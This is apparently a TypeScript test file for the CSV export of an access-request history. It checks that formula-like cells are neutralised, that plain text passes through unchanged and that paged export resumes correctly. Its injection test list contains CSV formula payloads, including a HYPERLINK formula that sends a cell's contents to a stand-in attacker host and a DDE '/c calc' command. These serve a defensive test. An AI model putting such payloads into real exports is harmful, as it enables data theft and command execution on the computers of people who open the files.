import { csvColumns, csvOf, type HistoryStore } from '../../src/history';
import { csvRow } from '../../src/history/exports/csv';
import type { AccessRequest } from '../../src/model';
import { lockboxFacts, pendingRequest } from '../fixtures/requests';

/** A reader of RFC 4180 of its own: fields by comma, quoted ones with doubled quotes, lines by CR LF. */
function parsed(text: string): string[][] {
  const rows: string[][] = [[]];
  let [field, quoted] = ['', false];
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at]!;
    if (quoted) {
      if (character !== '"') field += character;
      else if (text[at + 1] === '"') [field, at] = [`${field}"`, at + 1];
      else quoted = false;
    } else if (character === '"' && field === '') quoted = true;
    else if (character === ',') [, field] = [rows.at(-1)!.push(field), ''];
    else if (character === '\r' && text[at + 1] === '\n') {
      rows.at(-1)!.push(field);
      rows.push([]);
      [field, at] = ['', at + 1];
    } else field += character;
  }
  return rows.slice(0, -1);
}

const formulas: string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\0=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\u3000\uff1d1+1',
];
test.each(formulas)('%j is text to a spreadsheet, and all of it is still there', (text) => {
  expect(parsed(csvRow([text, 'next']))).toEqual([[`'${text}`, 'next']]);
});

const texts: string[] = [
  'plain',
  '',
  'a,b',
  'say "x"',
  'two\r\nlines',
  'one\nline',
  "it's",
  '3-1',
  'a=b',
  'user@example.com',
  '\u2014 dash',
  '\u{1f600}',
];
test.each(texts)('%j comes out as it went in', (text) => {
  expect(parsed(csvRow([text, text]))).toEqual([[text, text]]);
});

/** A past of requests, read by pages of two. */
function past(requests: AccessRequest[]): Pick<HistoryStore, 'page'> {
  return {
    page: (_filter, _limit, cursor = '0') => {
      const from = Number(cursor);
      const next = from + 2 < requests.length ? { next: String(from + 2) } : {};
      return Promise.resolve({ items: requests.slice(from, from + 2), ...next });
    },
  };
}
const requests = ['1', '2', '3', '4', '5'].map((digit) =>
  pendingRequest({ id: `L-000000000${digit}`, facts: lockboxFacts({ justification: '=1+1,"x"\r\n' }) }),
);

test('every request is a row, under names that stay', async () => {
  let text = '';
  for await (const { bytes } of csvOf(past(requests), {})) text += String(bytes);
  const [head, ...rows] = parsed(text);
  expect(head).toEqual(csvColumns.map(([name]) => name));
  expect(head!.join(' ')).toBe(
    'id kind state source service resource_ids subscription_id subscription_name justification support_case opened_at expires_at access_duration azure_id azure_status route policy_hash asked asked_ids votes verdict decided_at decided_by decided_by_id decided_via reason access_until access_ended_at access_ended_how requester',
  );
  expect(rows.map(([id]) => id)).toEqual(requests.map(({ id }) => id));
  expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([head!.length]));
  expect(rows[0]![head!.indexOf('justification')]).toBe('\'=1+1,"x"\r\n');
});

test('from any place on, the rest is what the whole would have gone on with', async () => {
  const pieces = [];
  for await (const piece of csvOf(past(requests), {})) pieces.push(piece);
  for (const [at, { place }] of pieces.entries()) {
    if (place === undefined) continue;
    let rest = '';
    for await (const { bytes } of csvOf(past(requests), {}, place)) rest += String(bytes);
    expect(rest).toBe(
      pieces
        .slice(at + 1)
        .map(({ bytes }) => bytes)
        .join(''),
    );
  }
});
